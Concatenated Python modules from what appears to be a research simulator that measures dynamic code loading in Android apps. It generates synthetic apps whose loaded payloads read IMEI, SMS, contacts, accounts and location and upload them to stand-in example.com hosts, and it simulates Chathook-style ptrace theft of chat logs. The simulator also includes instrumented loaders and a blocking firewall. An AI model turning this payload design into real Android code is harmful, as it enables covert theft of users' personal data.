        info = b.call_virtual("android.net.ConnectivityManager", "getActiveNetworkInfo", cm)
        b.if_eqz(info, skip)
    if gates.location:
        lm = b.call_virtual(
            "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("location")
        )
        enabled = b.call_virtual(
            "android.location.LocationManager", "isProviderEnabled", lm, b.new_string("gps")
        )
        b.if_eqz(enabled, skip)


# ---------------------------------------------------------------------------
# byte-moving helpers


def emit_stream_copy_to_file(b: MethodBuilder, stream_reg: int, dest_path: str) -> None:
    """read(stream, buf); write(fos, buf) -- the Table I flow chain."""
    size = b.new_int(1 << 20)
    buf = b.reg()
    b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
    b.call_virtual("java.io.InputStream", "read", stream_reg, buf)
    out = b.new_instance_of("java.io.FileOutputStream", b.new_string(dest_path))
    b.call_void("java.io.OutputStream", "write", out, buf)
    b.call_void("java.io.OutputStream", "close", out)


def emit_asset_to_file(b: MethodBuilder, asset_name: str, dest_path: str) -> None:
    assets = b.call_virtual("android.content.Context", "getAssets", b.arg(CTX))
    stream = b.call_virtual(
        "android.content.res.AssetManager", "open", assets, b.new_string(asset_name)
    )
    emit_stream_copy_to_file(b, stream, dest_path)


def emit_download_to_file(b: MethodBuilder, url: str, dest_path: str) -> None:
    url_obj = b.new_instance_of("java.net.URL", b.new_string(url))
    conn = b.call_virtual("java.net.URL", "openConnection", url_obj)
    stream = b.call_virtual("java.net.URLConnection", "getInputStream", conn)
    emit_stream_copy_to_file(b, stream, dest_path)


def emit_dex_load(
    b: MethodBuilder,
    dex_path: str,
    odex_dir: str,
    entry_class: Optional[str] = None,
    entry_method: str = "run",
    loader_kind: str = "dalvik.system.DexClassLoader",
    delete_after: bool = False,
) -> None:
    """Construct a class loader on ``dex_path`` and optionally run an entry."""
    path_reg = b.new_string(dex_path)
    null = b.new_null()
    if loader_kind.endswith("PathClassLoader"):
        loader = b.new_instance_of(loader_kind, path_reg, null)
    else:
        loader = b.new_instance_of(loader_kind, path_reg, b.new_string(odex_dir), null, null)
    if entry_class is not None:
        cls = b.call_virtual(
            "java.lang.ClassLoader", "loadClass", loader, b.new_string(entry_class)
        )
        instance = b.call_virtual("java.lang.Class", "newInstance", cls)
        b.call_void(entry_class, entry_method, instance, b.arg(CTX))
    if delete_after:
        file_obj = b.new_instance_of("java.io.File", path_reg)
        b.call_virtual("java.io.File", "delete", file_obj)


def emit_native_load_library(b: MethodBuilder, short_name: str) -> None:
    b.call_void("java.lang.System", "loadLibrary", b.new_string(short_name))


def emit_native_load_path(b: MethodBuilder, lib_path: str) -> None:
    runtime = b.call_static("java.lang.Runtime", "getRuntime")
    b.call_void("java.lang.Runtime", "load", runtime, b.new_string(lib_path))


def emit_reflection_use(b: MethodBuilder, class_name: str) -> None:
    """A java.lang.reflect usage (Table VI reflection row)."""
    cls = b.call_static("java.lang.Class", "forName", b.new_string(class_name))
    method = b.call_virtual("java.lang.Class", "getMethod", cls, b.new_string("toString"))
    b.call_void("java.lang.reflect.Method", "invoke", method, b.new_null())


# ---------------------------------------------------------------------------
# privacy payloads (what the loaded code does -- Table X)

SourceEmitter = Callable[[MethodBuilder], int]


def _src_location(b: MethodBuilder) -> int:
    lm = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("location")
    )
    return b.call_virtual(
        "android.location.LocationManager", "getLastKnownLocation", lm, b.new_string("gps")
    )


def _telephony(b: MethodBuilder, getter: str) -> int:
    tm = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("phone")
    )
    return b.call_virtual("android.telephony.TelephonyManager", getter, tm)


def _src_accounts(b: MethodBuilder) -> int:
    am = b.call_virtual(
        "android.content.Context", "getSystemService", b.arg(CTX), b.new_string("account")
    )
    return b.call_virtual("android.accounts.AccountManager", "getAccounts", am)


def _pm(b: MethodBuilder, getter: str) -> int:
    pm = b.call_virtual("android.content.Context", "getPackageManager", b.arg(CTX))
    return b.call_virtual("android.content.pm.PackageManager", getter, pm, b.new_int(0))


def _provider_query(b: MethodBuilder, uri_class: str, uri_field: str) -> int:
    resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
    uri = b.get_static(uri_class, uri_field)
    cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
    b.call_virtual("android.database.Cursor", "moveToNext", cursor)
    value = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
    b.call_void("android.database.Cursor", "close", cursor)
    return value


def _src_settings(b: MethodBuilder) -> int:
    resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(CTX))
    return b.call_static(
        "android.provider.Settings$Secure", "getString", resolver, b.new_string("android_id")
    )


#: Table X data type -> emitter producing the tainted register.
SOURCE_EMITTERS: Dict[str, SourceEmitter] = {
    "Location": _src_location,
    "IMEI": lambda b: _telephony(b, "getDeviceId"),
    "IMSI": lambda b: _telephony(b, "getSubscriberId"),
    "ICCID": lambda b: _telephony(b, "getSimSerialNumber"),
    "Phone number": lambda b: _telephony(b, "getLine1Number"),
    "Account": _src_accounts,
    "Installed applications": lambda b: _pm(b, "getInstalledApplications"),
    "Installed packages": lambda b: _pm(b, "getInstalledPackages"),
    "Contact": lambda b: _provider_query(b, "android.provider.ContactsContract$Contacts", "CONTENT_URI"),
    "Calendar": lambda b: _provider_query(b, "android.provider.CalendarContract$Events", "CONTENT_URI"),
    "CallLog": lambda b: _provider_query(b, "android.provider.CallLog$Calls", "CONTENT_URI"),
    "Browser": lambda b: _provider_query(b, "android.provider.Browser", "BOOKMARKS_URI"),
    "Audio": lambda b: _provider_query(b, "android.provider.MediaStore$Audio", "CONTENT_URI"),
    "Image": lambda b: _provider_query(b, "android.provider.MediaStore$Images", "CONTENT_URI"),
    "Video": lambda b: _provider_query(b, "android.provider.MediaStore$Video", "CONTENT_URI"),
    "Settings": _src_settings,
    "MMS": lambda b: _provider_query(b, "android.provider.Telephony$Mms", "CONTENT_URI"),
    "SMS": lambda b: _provider_query(b, "android.provider.Telephony$Sms", "CONTENT_URI"),
}


def extract_url_constants(dex: DexFile) -> List[str]:
    """Every http(s) string constant in a DEX -- the URLs its code may hit."""
    urls: List[str] = []
    for method in dex.iter_methods():
        for insn in method.instructions:
            if insn.op.name == "CONST" and isinstance(insn.args[1], str):
                literal = insn.args[1]
                if literal.startswith(("http://", "https://")):
                    urls.append(literal)
    return urls


def privacy_payload_dex(
    rng: random.Random,
    vendor_package: str,
    leak_types: List[str],
    collector_url: Optional[str] = None,
) -> DexFile:
    """A loadable SDK payload that reads the given data types and uploads.

    The payload entry is ``<vendor_package>.Collector.run(ctx)``.
    """
    class_name = "{}.Collector".format(vendor_package)
    cls = class_builder(class_name)
    init = MethodBuilder("<init>", class_name, arity=1)
    init.ret_void()
    cls.add_method(init.build())

    b = MethodBuilder("run", class_name, arity=1)
    url = collector_url or "http://telemetry-{}.example.com/collect".format(rng.randint(1, 9999))
    url_obj = b.new_instance_of("java.net.URL", b.new_string(url))
    conn = b.call_virtual("java.net.URL", "openConnection", url_obj)
    for data_type in leak_types:
        emitter = SOURCE_EMITTERS.get(data_type)
        if emitter is None:
            raise KeyError("unknown Table X data type {!r}".format(data_type))
        value = emitter(b)
        b.call_void(
            "java.net.URLConnection", "setRequestProperty",
            conn, b.new_string(data_type.lower().replace(" ", "-")), value,
        )
    b.ret_void()
    cls.add_method(b.build())
    return DexFile(classes=[cls], source_name="{}.jar".format(vendor_package.split(".")[-1]))
