"""Persist a generated corpus to disk and load it back.

A saved corpus is a directory of installable ``.apk`` files plus a
``market.json`` carrying the store metadata, the ground-truth blueprints,
and each app's runtime environment (remote resources, companion apps) --
enough to re-run the measurement without the generator, share corpora
between machines, or diff two corpus versions.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import List, Union

from repro.android.apk import Apk
from repro.corpus.behaviors import EnvGates
from repro.corpus.generator import AppBlueprint, AppRecord
from repro.corpus.metadata import AppMetadata

MARKET_INDEX = "market.json"
FORMAT_VERSION = 1


class CorpusFormatError(ValueError):
    """The directory does not hold a valid saved corpus."""


def _blueprint_to_dict(blueprint: AppBlueprint) -> dict:
    payload = dataclasses.asdict(blueprint)
    payload["leak_types"] = list(blueprint.leak_types)
    return payload


def _blueprint_from_dict(payload: dict) -> AppBlueprint:
    payload = dict(payload)
    payload["malware_gates"] = EnvGates(**payload["malware_gates"])
    payload["leak_types"] = tuple(payload["leak_types"])
    return AppBlueprint(**payload)


def save_corpus(records: List[AppRecord], directory: Union[str, Path]) -> Path:
    """Write the corpus; returns the index path."""
    root = Path(directory)
    root.mkdir(parents=True, exist_ok=True)
    index = []
    for position, record in enumerate(records):
        apk_name = "{:05d}-{}.apk".format(position, record.package)
        (root / apk_name).write_bytes(record.apk.to_bytes())
        companions = []
        for companion_index, companion in enumerate(record.companions):
            name = "{:05d}-companion{}-{}.apk".format(
                position, companion_index, companion.package
            )
            (root / name).write_bytes(companion.to_bytes())
            companions.append(name)
        index.append(
            {
                "apk": apk_name,
                "metadata": dataclasses.asdict(record.metadata),
                "blueprint": _blueprint_to_dict(record.blueprint),
                "remote_resources": {
                    url: data.hex() for url, data in record.remote_resources.items()
                },
                "companions": companions,
            }
        )
    index_path = root / MARKET_INDEX
    index_path.write_text(
        json.dumps({"version": FORMAT_VERSION, "apps": index}, indent=1)
    )
    return index_path


def load_corpus(directory: Union[str, Path]) -> List[AppRecord]:
    """Read a corpus saved by :func:`save_corpus`."""
    root = Path(directory)
    index_path = root / MARKET_INDEX
    if not index_path.exists():
        raise CorpusFormatError("no {} in {}".format(MARKET_INDEX, root))
    try:
        payload = json.loads(index_path.read_text())
        if payload.get("version") != FORMAT_VERSION:
            raise CorpusFormatError(
                "unsupported corpus version {!r}".format(payload.get("version"))
            )
        records = []
        for entry in payload["apps"]:
            apk = Apk.from_bytes((root / entry["apk"]).read_bytes())
            companions = tuple(
                Apk.from_bytes((root / name).read_bytes())
                for name in entry["companions"]
            )
            records.append(
                AppRecord(
                    apk=apk,
                    metadata=AppMetadata(**entry["metadata"]),
                    blueprint=_blueprint_from_dict(entry["blueprint"]),
                    remote_resources={
                        url: bytes.fromhex(hexed)
                        for url, hexed in entry["remote_resources"].items()
                    },
                    companions=companions,
                )
            )
        return records
    except CorpusFormatError:
        raise
    except (KeyError, TypeError, ValueError, OSError) as exc:
        raise CorpusFormatError("corrupt corpus: {}".format(exc))
