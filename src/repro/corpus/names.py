"""Identifier and package-name synthesis.

Readable apps get identifiers assembled from dictionary words (the same
dictionary the lexical detector checks against, as a real app's vocabulary
overlaps DBpedia's); lexically obfuscated apps get ProGuard-style
(``a``, ``b``, ``aa``...) or Allatori-style (random consonant runs) names.
"""

from __future__ import annotations

import random
import string
from typing import List

from repro.static_analysis.obfuscation.lexical import WORDS

#: words used to mint readable identifiers -- deliberately the detector's
#: own vocabulary, as a real app's vocabulary overlaps the dictionary.
WORD_POOL = list(WORDS)

TLDS = ("com", "net", "org", "io", "cn", "co")


def readable_identifier(rng: random.Random, n_words: int = 2) -> str:
    """camelCase identifier from dictionary words, e.g. ``loadBannerCache``."""
    words = [rng.choice(WORD_POOL) for _ in range(max(1, n_words))]
    return words[0] + "".join(word.capitalize() for word in words[1:])


def readable_class_name(rng: random.Random) -> str:
    """PascalCase class simple name."""
    return readable_identifier(rng, rng.randint(2, 3)).capitalize()


def proguard_identifier(index: int) -> str:
    """ProGuard's enumeration: a, b, ..., z, aa, ab, ..."""
    letters = string.ascii_lowercase
    name = ""
    index += 1
    while index > 0:
        index, remainder = divmod(index - 1, 26)
        name = letters[remainder] + name
    return name


def allatori_identifier(rng: random.Random) -> str:
    """Random consonant runs, the look of non-trivial renamers."""
    consonants = "bcdfghjklmnpqrstvwxz"
    return "".join(rng.choice(consonants) for _ in range(rng.randint(3, 6)))


def obfuscated_identifier(rng: random.Random, index: int) -> str:
    """A meaningless identifier in one of the two in-the-wild styles."""
    if rng.random() < 0.7:
        return proguard_identifier(index)
    return allatori_identifier(rng)


def package_name(rng: random.Random) -> str:
    """A plausible application package, e.g. ``com.pixelcraft.weather``."""
    vendor = rng.choice(WORD_POOL) + rng.choice(("", "soft", "labs", "apps", "mobi"))
    product = rng.choice(WORD_POOL)
    return "{}.{}.{}".format(rng.choice(TLDS), vendor, product)


def class_names_for_app(
    rng: random.Random, package: str, count: int, obfuscated: bool
) -> List[str]:
    """``count`` distinct class names under ``package``."""
    names: List[str] = []
    seen = set()
    for index in range(count * 3):
        if len(names) >= count:
            break
        if obfuscated:
            simple = obfuscated_identifier(rng, index)
        else:
            simple = readable_class_name(rng)
        if simple in seen:
            continue
        seen.add(simple)
        names.append("{}.{}".format(package, simple))
    while len(names) < count:  # pathological collision fallback
        names.append("{}.C{}".format(package, len(names)))
    return names
