"""The simulated internet.

Remote servers host payloads (DEX/JAR/APK/native binaries, ad content...)
addressed by URL.  Server resources may be static bytes or Python callables,
which lets examples model *server-side logic* -- e.g. the paper's ``App_L``
experiment, where the server decides whether to reveal the link to the
malicious payload (delivery disabled during market review).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple, Union
from urllib.parse import urlparse

Resource = Union[bytes, Callable[["RemoteServer", str], Optional[bytes]]]


class NetworkUnavailableError(IOError):
    """No connectivity (airplane mode without WiFi)."""


class HttpNotFoundError(IOError):
    """The server has no such resource (HTTP 404)."""


@dataclass
class RemoteServer:
    """One host on the simulated internet."""

    host: str
    resources: Dict[str, Resource] = field(default_factory=dict)
    #: free-form switchboard for server-side logic (e.g. {"serve_malware": False}).
    flags: Dict[str, object] = field(default_factory=dict)

    def put(self, path: str, resource: Resource) -> None:
        self.resources[path] = resource

    def get(self, path: str) -> Optional[bytes]:
        resource = self.resources.get(path)
        if resource is None:
            return None
        if callable(resource):
            return resource(self, path)
        return resource


@dataclass
class Network:
    """Host registry plus a fetch log used by tests and examples."""

    servers: Dict[str, RemoteServer] = field(default_factory=dict)
    fetch_log: List[Tuple[str, bool]] = field(default_factory=list)
    #: outbound uploads apps attempted: (url, n_bytes).
    exfil_log: List[Tuple[str, int]] = field(default_factory=list)

    def server(self, host: str) -> RemoteServer:
        """Get-or-create the server for a host."""
        if host not in self.servers:
            self.servers[host] = RemoteServer(host=host)
        return self.servers[host]

    def host_resource(self, url: str, payload: Resource) -> None:
        """Convenience: host ``payload`` at a full URL."""
        parsed = urlparse(url)
        self.server(parsed.netloc).put(parsed.path, payload)

    def fetch(self, url: str, online: bool = True) -> bytes:
        """Resolve a URL to payload bytes.

        Raises :class:`NetworkUnavailableError` when offline and
        :class:`HttpNotFoundError` for unknown hosts/paths -- both surface in
        the VM as ``java.io.IOException``.
        """
        if not online:
            self.fetch_log.append((url, False))
            raise NetworkUnavailableError("network unreachable: {}".format(url))
        parsed = urlparse(url)
        server = self.servers.get(parsed.netloc)
        data = server.get(parsed.path) if server is not None else None
        self.fetch_log.append((url, data is not None))
        if data is None:
            raise HttpNotFoundError("404: {}".format(url))
        return data
