"""``DexClassLoader`` / ``PathClassLoader`` -- the bytecode DCL choke point.

All bytecode DCL goes through these two constructors (Section II: "all DCL
goes through one of these points, which provides us with a reliable way to
enforce complete mediation").  The hooked constructors:

1. resolve the ``dexPath`` list (``:``-separated, various container formats),
2. skip system binaries (``/system/...`` is vendor-trusted, out of scope),
3. capture the Java stack trace and emit a :class:`DexLoadEvent` carrying the
   loaded paths, the optimized-DEX directory, and the call-site class,
4. define the loaded classes into the VM class space (the actual load), and
5. write the ODEX translation into the optimized directory.
"""

from __future__ import annotations

from typing import Any, List, Optional

from repro.android.dex import DexFile, DexFormatError
from repro.runtime.instrumentation import CodeOriginEvent, DexLoadEvent
from repro.runtime.objects import VMException, VMObject
from repro.runtime.stacktrace import call_site_class
from repro.runtime.vfs import is_system, normalize

DALVIK_CACHE = "/data/dalvik-cache"


def install(vm) -> None:
    vm.register_api("dalvik.system.DexClassLoader", "<init>", _dex_class_loader_init)
    vm.register_api("dalvik.system.PathClassLoader", "<init>", _path_class_loader_init)
    vm.register_api("java.lang.ClassLoader", "loadClass", _load_class)


def _dex_class_loader_init(vm, args: List[Any]) -> None:
    # DexClassLoader(dexPath, optimizedDirectory, librarySearchPath, parent)
    loader = args[0]
    dex_path = args[1] if len(args) > 1 else None
    optimized_dir = args[2] if len(args) > 2 else None
    _construct_loader(vm, loader, "DexClassLoader", dex_path, optimized_dir)


def _path_class_loader_init(vm, args: List[Any]) -> None:
    # PathClassLoader(dexPath, parent) -- optimized output goes to dalvik-cache.
    loader = args[0]
    dex_path = args[1] if len(args) > 1 else None
    _construct_loader(vm, loader, "PathClassLoader", dex_path, DALVIK_CACHE)


def _construct_loader(
    vm,
    loader: VMObject,
    kind: str,
    dex_path: Optional[str],
    optimized_dir: Optional[str],
) -> None:
    if not dex_path:
        raise VMException("java.lang.NullPointerException", "dexPath")
    ctx = vm.context
    paths = _split_load_order(
        [normalize(p) for p in str(dex_path).split(":") if p]
    )
    app_paths = [p for p in paths if not is_system(p)]

    if app_paths:
        event = DexLoadEvent(
            dex_paths=tuple(app_paths),
            odex_dir=optimized_dir,
            loader_kind=kind,
            call_site=call_site_class(vm.stack_trace()),
            stack=vm.stack_trace(),
            app_package=ctx.package if ctx else "",
            timestamp_ms=vm.device.now_ms(),
        )
        vm.instrumentation.emit_dex_load(event)
        # Inline enforcement (repro.defense.firewall): the event is logged
        # and the interceptor has dumped the payload, but no class has been
        # defined yet -- a DENY/QUARANTINE verdict raises an app-catchable
        # SecurityException before any loaded code can run.
        firewall = getattr(vm, "firewall", None)
        if firewall is not None:
            firewall.check_dex_load(event)

    defined: List[str] = []
    for path in paths:
        dex = _read_dex(vm, path)
        if dex is None:
            continue
        defined_here = vm.load_dex(dex)
        defined.extend(defined_here)
        # Per-class origin facts chain provenance across staged loads:
        # code defined from this file may itself fetch the next payload.
        for class_name in defined_here:
            vm.instrumentation.emit_code_origin(
                CodeOriginEvent(
                    class_name=class_name,
                    path=path,
                    app_package=ctx.package if ctx else "",
                )
            )
        _write_odex(vm, dex, path, optimized_dir)
    loader.payload = {"kind": kind, "paths": paths, "defined": defined}


def _is_split_basename(basename: str) -> bool:
    return basename.startswith("split_") or basename.startswith("config.")


def _split_load_order(paths: List[str]) -> List[str]:
    """Split-aware dexPath ordering: base entries first, splits sorted.

    A dexPath mixing base code with feature/config splits must define the
    base first (splits may shadow base classes) and splits in a stable
    name order, whatever order the app passed them in.  Single-entry and
    split-free paths come back unchanged.
    """
    if len(paths) < 2:
        return paths
    base_like = [p for p in paths if not _is_split_basename(p.rsplit("/", 1)[-1])]
    splits = [p for p in paths if _is_split_basename(p.rsplit("/", 1)[-1])]
    if not splits:
        return paths
    return base_like + sorted(splits, key=lambda p: p.rsplit("/", 1)[-1])


def _read_dex(vm, path: str) -> Optional[DexFile]:
    """Parse loadable bytecode from any supported container format.

    ``dexPath`` entries may be bare DEX/ODEX or APK/JAR/ZIP containers
    (Section II: "stored in files with various formats, such as APK, JAR,
    ZIP, DEX, and ODEX").
    """
    try:
        data = vm.device.vfs.read(path)
    except FileNotFoundError:
        raise VMException("java.io.FileNotFoundException", path)
    try:
        return DexFile.from_bytes(data)
    except DexFormatError:
        pass
    try:
        from repro.android.apk import Apk

        container = Apk.from_bytes(data)
        merged = DexFile(source_name=path.rsplit("/", 1)[-1])
        for dex in container.dex_files():
            merged.merge(dex)
        return merged if merged.classes else None
    except Exception:
        # Real loaders tolerate containers without classes.dex until
        # loadClass(); encrypted payloads land here.
        return None


def _write_odex(vm, dex: DexFile, dex_path: str, optimized_dir: Optional[str]) -> None:
    if not optimized_dir:
        return
    base = dex_path.rsplit("/", 1)[-1]
    stem = base.rsplit(".", 1)[0] if "." in base else base
    odex_path = "{}/{}.odex".format(normalize(optimized_dir).rstrip("/"), stem)
    try:
        from repro.runtime.frameworkapi import vm_write_file

        vm_write_file(vm, odex_path, dex.to_odex())
    except VMException:
        # ODEX emission failure (quota/permissions) does not abort the load;
        # Dalvik falls back to interpreting the unoptimized DEX.
        pass


def _load_class(vm, args: List[Any]) -> VMObject:
    _, name = args[0], args[1]
    if name in vm.class_space or vm.is_framework_class(name):
        return VMObject("java.lang.Class", payload=name)
    raise VMException("java.lang.ClassNotFoundException", str(name))
