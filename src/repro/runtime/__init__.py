"""The simulated device and Dalvik-style runtime.

The paper ran apps on a Samsung Galaxy Nexus with an instrumented Android
4.3.1 image.  This package is that substrate in Python:

- :mod:`repro.runtime.vfs` -- virtual filesystem with internal/external
  storage semantics and the pre-/post-KitKat external-storage write rules;
- :mod:`repro.runtime.network` -- the simulated internet (remote servers,
  URL fetch, connectivity state);
- :mod:`repro.runtime.device` -- device state: clock, settings, telephony
  identifiers, accounts, installed packages, content providers, app installs;
- :mod:`repro.runtime.objects` -- the VM object model;
- :mod:`repro.runtime.stacktrace` -- Java-style stack trace elements and the
  call-site extraction DyDroid uses for entity attribution;
- :mod:`repro.runtime.instrumentation` -- the hook bus at the paper's hook
  points (class loader ctors, JNI load*, File delete/rename, URL/stream IO);
- :mod:`repro.runtime.vm` -- the register-machine interpreter;
- :mod:`repro.runtime.frameworkapi` -- Android/Java framework API semantics;
- :mod:`repro.runtime.classloader` -- DexClassLoader / PathClassLoader;
- :mod:`repro.runtime.jni` -- System/Runtime load(), loadLibrary(), load0().
"""

from repro.runtime.device import Device, DeviceConfig
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import NULL, VMException, VMObject
from repro.runtime.stacktrace import StackTraceElement, call_site_class
from repro.runtime.vfs import FileRecord, StorageFullError, VirtualFilesystem
from repro.runtime.vm import DalvikVM, ExecutionContext, ExecutionError

__all__ = [
    "DalvikVM",
    "Device",
    "DeviceConfig",
    "ExecutionContext",
    "ExecutionError",
    "FileRecord",
    "Instrumentation",
    "NULL",
    "StackTraceElement",
    "StorageFullError",
    "VMException",
    "VMObject",
    "VirtualFilesystem",
    "call_site_class",
]
