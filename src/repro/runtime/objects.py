"""The VM object model.

Values in the interpreter are Python ints, strings, ``None`` (Java null), or
:class:`VMObject` instances.  Framework objects (streams, URLs, class
loaders...) are VMObjects whose ``payload`` holds the Python-side state the
framework API implementations need; app objects use ``fields``.
"""

from __future__ import annotations

import itertools
from typing import Any, Dict

#: Java null as seen by bytecode.
NULL = None

_identity_counter = itertools.count(1)


class VMObject:
    """A heap object: class name, instance fields, framework payload."""

    __slots__ = ("class_name", "fields", "payload", "identity")

    def __init__(self, class_name: str, payload: Any = None) -> None:
        self.class_name = class_name
        self.fields: Dict[str, Any] = {}
        self.payload = payload
        #: stable per-object id, the stand-in for Object.hashCode() that the
        #: download tracker uses to key flow-graph nodes.
        self.identity = next(_identity_counter)

    def hash_code(self) -> int:
        return self.identity

    def __repr__(self) -> str:
        return "<{}@{}>".format(self.class_name, self.identity)


class VMException(Exception):
    """A Java exception propagating through interpreted frames."""

    def __init__(self, class_name: str, message: str = "") -> None:
        super().__init__("{}: {}".format(class_name, message))
        self.class_name = class_name
        self.message = message


class FirewallDeniedException(VMException):
    """A DCL blocked by the enforcement firewall (:mod:`repro.defense.firewall`).

    Thrown out of the hooked loader constructors as an app-catchable
    ``java.lang.SecurityException``: apps with a try/catch keep running
    degraded, and apps without one unwind only the current entry point --
    the Python subclass survives interpreted frames (the VM re-raises
    exceptions bare), so the execution engine can tell a firewall denial
    from a genuine app crash.
    """

    def __init__(self, reason: str, decision=None) -> None:
        super().__init__("java.lang.SecurityException", reason)
        #: the :class:`~repro.defense.firewall.FirewallDecision` behind the
        #: denial, for session reporting.
        self.decision = decision


def as_bool(value: Any) -> bool:
    """Java booleans are ints in DEX; normalize truthiness."""
    if value is None:
        return False
    if isinstance(value, VMObject):
        return True
    return bool(value)


def type_name(value: Any) -> str:
    """The Java-ish type name of a VM value, for flow-graph node labels."""
    if value is None:
        return "null"
    if isinstance(value, VMObject):
        return value.class_name
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, int):
        return "int"
    if isinstance(value, str):
        return "java.lang.String"
    if isinstance(value, (bytes, bytearray)):
        return "byte[]"
    return type(value).__name__


def object_key(value: Any) -> str:
    """Stable "type@hashcode" key for flow-graph nodes (paper section III-B)."""
    if isinstance(value, VMObject):
        return "{}@{}".format(value.class_name, value.identity)
    return "{}@{}".format(type_name(value), id(value))
