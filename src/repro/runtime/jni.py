"""JNI native loading -- ``System``/``Runtime`` ``load*`` choke points.

Native DCL funnels through ``System.loadLibrary`` / ``System.load`` /
``Runtime.load0`` (the API Android 7.1 added; the paper notes one extra hook
adapts DyDroid to ART).  The hooks mirror :mod:`repro.runtime.classloader`:
resolve the library, skip ``/system/lib``, emit a :class:`NativeLoadEvent`
with the captured stack trace, then "execute" the library by running its
declared intrinsics (see :mod:`repro.android.nativelib`), which is how
packer stubs decrypt payloads and Chathook-style malware misbehaves.
"""

from __future__ import annotations

from typing import Any, Optional

from repro.android.dex import DexFile, DexFormatError
from repro.android.nativelib import (
    INTRINSIC_ANTI_DEBUG,
    INTRINSIC_DECRYPT_AND_LOAD,
    INTRINSIC_EXFILTRATE,
    INTRINSIC_NOOP,
    INTRINSIC_PTRACE_HOOK,
    NativeFormatError,
    NativeLibrary,
)
from repro.runtime.instrumentation import NativeLoadEvent
from repro.runtime.objects import VMException
from repro.runtime.stacktrace import call_site_class
from repro.runtime.vfs import SYSTEM_LIB_DIR, internal_dir, is_system, normalize


def install(vm) -> None:
    vm.register_api("java.lang.System", "loadLibrary", lambda vm_, a: _load_library(vm_, a[0]))
    vm.register_api("java.lang.System", "load", lambda vm_, a: _load_path(vm_, a[0], api="load"))
    vm.register_api("java.lang.Runtime", "loadLibrary", lambda vm_, a: _load_library(vm_, a[1]))
    vm.register_api("java.lang.Runtime", "load", lambda vm_, a: _load_path(vm_, a[1], api="load"))
    vm.register_api("java.lang.Runtime", "load0", lambda vm_, a: _load_path(vm_, a[1], api="load0"))


def map_library_name(name: str) -> str:
    """``System.mapLibraryName``: bare name -> platform file name."""
    if name.endswith(".so"):
        return name
    if name.startswith("lib"):
        return name + ".so"
    return "lib{}.so".format(name)


def _load_library(vm, name: Any) -> None:
    if not isinstance(name, str) or not name:
        raise VMException("java.lang.NullPointerException", "libName")
    file_name = map_library_name(name)
    path = _resolve_library(vm, file_name)
    if path is None:
        raise VMException("java.lang.UnsatisfiedLinkError", file_name)
    _load_path(vm, path, api="loadLibrary")


def _resolve_library(vm, file_name: str) -> Optional[str]:
    """Search the app's native dir, then the system library dir."""
    search_dirs = []
    if vm.context is not None:
        search_dirs.append("{}/lib".format(internal_dir(vm.context.package)))
    search_dirs.append(SYSTEM_LIB_DIR)
    for directory in search_dirs:
        candidate = "{}/{}".format(directory, file_name)
        if vm.device.vfs.exists(candidate):
            return candidate
    return None


def _load_path(vm, path: Any, api: str) -> None:
    if not isinstance(path, str) or not path:
        raise VMException("java.lang.NullPointerException", "path")
    path = normalize(path)
    if not vm.device.vfs.exists(path):
        raise VMException("java.lang.UnsatisfiedLinkError", path)

    if not is_system(path):
        ctx = vm.context
        event = NativeLoadEvent(
            lib_path=path,
            api=api,
            call_site=call_site_class(vm.stack_trace()),
            stack=vm.stack_trace(),
            app_package=ctx.package if ctx else "",
            timestamp_ms=vm.device.now_ms(),
        )
        vm.instrumentation.emit_native_load(event)
        # Inline enforcement: block before the library is parsed, so no
        # intrinsic (decrypt stubs, ptrace hooks, exfiltration) ever runs.
        firewall = getattr(vm, "firewall", None)
        if firewall is not None:
            firewall.check_native_load(event)
    else:
        return  # system libraries: trusted, no event, no intrinsic execution

    try:
        library = NativeLibrary.from_bytes(vm.device.vfs.read(path))
    except NativeFormatError:
        raise VMException("java.lang.UnsatisfiedLinkError", "bad ELF: {}".format(path))
    _run_intrinsic(vm, library, "JNI_OnLoad")


def _run_intrinsic(vm, library: NativeLibrary, fn_name: str) -> None:
    spec = library.intrinsics.get(fn_name)
    if spec is None:
        return
    kind = spec.get("kind", INTRINSIC_NOOP)
    if kind == INTRINSIC_NOOP:
        return
    if kind == INTRINSIC_DECRYPT_AND_LOAD:
        _intrinsic_decrypt(vm, spec)
    elif kind == INTRINSIC_PTRACE_HOOK:
        _intrinsic_ptrace_hook(vm, spec)
    elif kind == INTRINSIC_ANTI_DEBUG:
        vm.device.logcat.append(
            "native: ptrace(PTRACE_TRACEME) loop across {} processes".format(
                spec.get("processes", 3)
            )
        )
    elif kind == INTRINSIC_EXFILTRATE:
        url = spec.get("url", "http://collect.example.com/upload")
        vm.device.network.exfil_log.append((url, int(spec.get("n_bytes", 64))))


def _intrinsic_decrypt(vm, spec: dict) -> None:
    """The packer stub: read the encrypted asset, decrypt, drop plain DEX."""
    source = spec.get("source", "")
    dest = spec.get("dest", "")
    key = bytes.fromhex(spec.get("key_hex", "00"))
    if source.startswith("asset:"):
        if vm.context is None:
            return
        entry = "assets/{}".format(source[len("asset:"):])
        data = vm.context.apk.entries.get(entry)
        if data is None:
            raise VMException("java.io.FileNotFoundException", entry)
    else:
        try:
            data = vm.device.vfs.read(normalize(source))
        except FileNotFoundError:
            raise VMException("java.io.FileNotFoundException", source)
    try:
        plain = DexFile.decrypt(data, key)
    except DexFormatError:
        raise VMException("java.lang.RuntimeException", "payload decryption failed")
    from repro.runtime.frameworkapi import vm_write_file

    vm_write_file(vm, normalize(dest), plain.to_bytes())


def _intrinsic_ptrace_hook(vm, spec: dict) -> None:
    """Chathook-style malware: root, ptrace-attach to chat apps, leak history."""
    targets = spec.get("targets", ["com.tencent.mobileqq", "com.tencent.mm"])
    url = spec.get("url", "http://collector.example.net/chat")
    vm.device.logcat.append("native: su; ptrace attach to {}".format(",".join(targets)))
    for target in targets:
        if target in vm.device.installed:
            vm.device.network.exfil_log.append(
                ("{}?victim={}".format(url, target), 1024)
            )
